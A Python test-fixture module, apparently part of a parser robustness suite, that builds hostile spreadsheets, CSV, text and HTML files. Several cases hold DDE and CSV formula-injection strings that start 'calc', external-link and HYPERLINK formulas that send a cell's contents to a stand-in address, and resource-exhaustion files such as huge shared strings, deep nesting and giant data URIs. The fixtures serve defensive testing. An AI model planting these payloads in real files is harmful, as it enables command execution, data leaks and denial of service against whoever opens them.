"""Workbooks, delimited text and web pages that carry programs, links to other files, or texts told again and again."""

from __future__ import annotations

from hostile.cases import READ, SAFE, TABLE, case
from hostile.html_cases import GOOD
from hostile.office_making import xlsx, xlsx_rows
from hostile.xml_cases import ADDRESS

_KIND, _CSV, _REMOTE, _CHARACTERS = "endless spreadsheet", "delimited text", "remote references", "odd characters"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PLAN = "\n".join("\t".join(row) for row in TABLE)


def _part(kind: str, target: str) -> str:
    return f'<Relationship Id="x{kind}" Type="{_OFFICE}/{kind}" Target="{target}"/>'


def _with_part(kind: str, text: str, rows: str) -> bytes:
    """The good table and further rows, with a part that they lean on."""
    held = [(f"xl/{kind}.xml", text)]
    return xlsx(xlsx_rows() + rows, more=held, rels=_part(kind, f"{kind}.xml"), parts=(kind,))


@case("links-to-other-books.xlsx", _REMOTE, READ, actions=3)
def links_to_other_books() -> bytes:
    """Formulas that fetch or start programs are formulas; what the book last showed is what it says."""
    codes = (
        f"'{ADDRESS}/[book.xlsx]Plan'!A1",
        "cmd|'/C calc'!A0",
        f'HYPERLINK("{ADDRESS}/{{"&amp;A1,"x")',
        f'IMAGE("{ADDRESS}/i")',
        'DDE("cmd","/C calc","a")',
    )
    cells = "".join(f'<c t="str"><f>{code}</f><v>kept</v></c>' for code in codes)
    outer = f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    rels = _part("externalLink", "externalLinks/externalLink1.xml")
    return xlsx(xlsx_rows() + f"<row>{cells}</row>", more=[("xl/externalLinks/externalLink1.xml", outer)], rels=rels)


@case("formulas-in-texts.xlsx", "macros", READ, actions=3)
def formulas_in_texts() -> bytes:
    """Texts that would be formulas in the book that is written of them."""
    rows = [list(row) for row in TABLE]
    rows[1][1], rows[2][1], rows[3][2] = (
        "=cmd|'/C calc'!A0 first",
        "+1+cmd|' /C calc'!A0 second",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )
    return xlsx(xlsx_rows(rows))


@case("one-text-told-a-million-times.xlsx", _KIND, SAFE, sizes=(300, 300_000))
def shared_string(size: int) -> bytes:
    """A text of thirty thousand letters that stands once, and is shown in every cell."""
    texts = f'<sst xmlns="{_MAIN}"><si><t>{"x" * 30_000}</t></si></sst>'
    cells = '<c t="s"><v>0</v></c>' * 10
    return _with_part("sharedStrings", texts, f"<row>{cells}</row>" * (size // 10))


@case("texts-by-the-million.xlsx", _KIND, SAFE, sizes=(2_000, 600_000))
def many_shared_strings(size: int) -> bytes:
    texts = "".join(f"<si><r><t>{n}</t></r><rPh sb='0' eb='1'><t>a</t></rPh></si>" for n in range(size))
    held = f'<sst xmlns="{_MAIN}" count="4000000000" uniqueCount="4000000000">{texts}</sst>'
    return _with_part("sharedStrings", held, '<row><c t="s"><v>1</v></c></row>')


@case("number-formats-without-end.xlsx", _KIND, SAFE, sizes=(5_000, 200_000))
def number_formats(size: int) -> bytes:
    texts = ("[", "0.0", "#,", "&quot;a", "yyyy", "General")
    codes = [text * (size // len(text)) for text in texts]
    formats = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="{code}"/>' for n, code in enumerate(codes))
    styles = "".join(f'<xf numFmtId="{200 + n}" applyNumberFormat="1"/>' for n in range(len(codes)))
    sheet = f'<styleSheet xmlns="{_MAIN}"><numFmts>{formats}</numFmts><cellXfs>{styles}</cellXfs></styleSheet>'
    cells = "".join(f'<c s="{n}"><v>45000.5</v></c>' for n in range(len(codes)))
    return _with_part("styles", sheet, f"<row>{cells}</row>")


@case("row-told-again-and-again.xlsx", _KIND, SAFE, sizes=(200, 200_000))
def same_row(size: int) -> bytes:
    """Every row says that it is the first, and every cell that it is A1."""
    return xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>' * size + xlsx_rows())


@case("utf-16-without-a-mark.txt", _CHARACTERS, SAFE)
def utf_16_text() -> bytes:
    return _PLAN.encode("utf-16-le")


@case("utf-16-without-a-mark.csv", _CHARACTERS, SAFE)
def utf_16_csv() -> bytes:
    return "\n".join(",".join(f'"{cell}"' for cell in row) for row in TABLE).encode("utf-16-be")


@case("utf-16-without-a-mark.html", _CHARACTERS, SAFE)
def utf_16_html() -> bytes:
    return f"<!doctype html><html><body>{GOOD}</body></html>".encode("utf-16-le")


@case("utf-32.txt", _CHARACTERS, SAFE)
def utf_32() -> bytes:
    return _PLAN.encode("utf-32")


@case("ebcdic.txt", _CHARACTERS, SAFE)
def ebcdic() -> bytes:
    return _PLAN.encode("cp037")


@case("line-ends-of-every-kind.txt", _CHARACTERS, SAFE)
def line_ends() -> bytes:
    return (_PLAN + "\x0b\x0c\x85\u2028\u2029\r\r\n" * 2_000).encode()


@case("nothing-seen-between-letters.txt", _CHARACTERS, SAFE, sizes=(2_000, 900_000))
def unseen(size: int) -> bytes:
    """Joiners, marks of direction and soft hyphens, which show as nothing."""
    return _PLAN.replace("Agree", "Agree" + "\u200b\u200d\u00ad\ufeff\u2060" * (size // 20)).encode()


@case("names-that-swallow-the-page.html", "HTML with absurd content", SAFE)
def swallowed() -> bytes:
    """Elements that are never closed and take what follows for their own text."""
    opened = "<title><textarea><xmp><select><option><svg><style><template><noscript>"
    return f"<html><body>{GOOD}{opened}{GOOD}<plaintext>{GOOD}".encode()


@case("entities-and-nulls.html", _CHARACTERS, SAFE)
def entities() -> bytes:
    body = GOOD.replace("Agree", "A\0gree &NotAnEntity; &#99999999999; &#x; &fjlig;" + "&amp;" * 5_000)
    return f"<!doctype html><html><body>{body}".encode()


@case("links-in-links.html", "deep nesting", SAFE, sizes=(500, 60_000))
def links_in_links(size: int) -> bytes:
    """What a browser must take apart again: links in links, bold in bold, forms in forms."""
    return f"<html><body>{GOOD}{'<a href=#><b><form><p>x' * size}".encode()


@case(
    "picture-of-ten-megabytes-in-an-address.html",
    "HTML with absurd content",
    READ,
    actions=3,
    sizes=(50_000, 10_000_000),
)
def data_address(size: int) -> bytes:
    picture = f'<img src="data:image/png;base64,{"A" * size}">'
    return f'<html><body>{picture}<iframe srcdoc="{"&lt;" * 99}"></iframe>{GOOD}'.encode()


@case("says-its-separator.csv", _CSV, READ, actions=3)
def says_its_separator() -> bytes:
    return b"sep=;\r\n" + "\r\n".join(";".join(row) for row in TABLE).encode()


@case("carriage-returns-alone.csv", _CSV, READ, actions=3)
def carriage_returns() -> bytes:
    return "\r".join(",".join(row) for row in TABLE).encode()


@case("quotes-alone.csv", _CSV, SAFE, sizes=(3_001, 3_000_001))
def quotes_alone(size: int) -> bytes:
    return b'"' * size


@case("formulas-that-start-programs.csv", _CSV, READ, actions=3)
def formulas_csv() -> bytes:
    rows = [",".join(row) for row in TABLE]
    return "\n".join([*rows, "=cmd|' /C calc'!A0,+1,-1,@x,\t=1"]).encode()
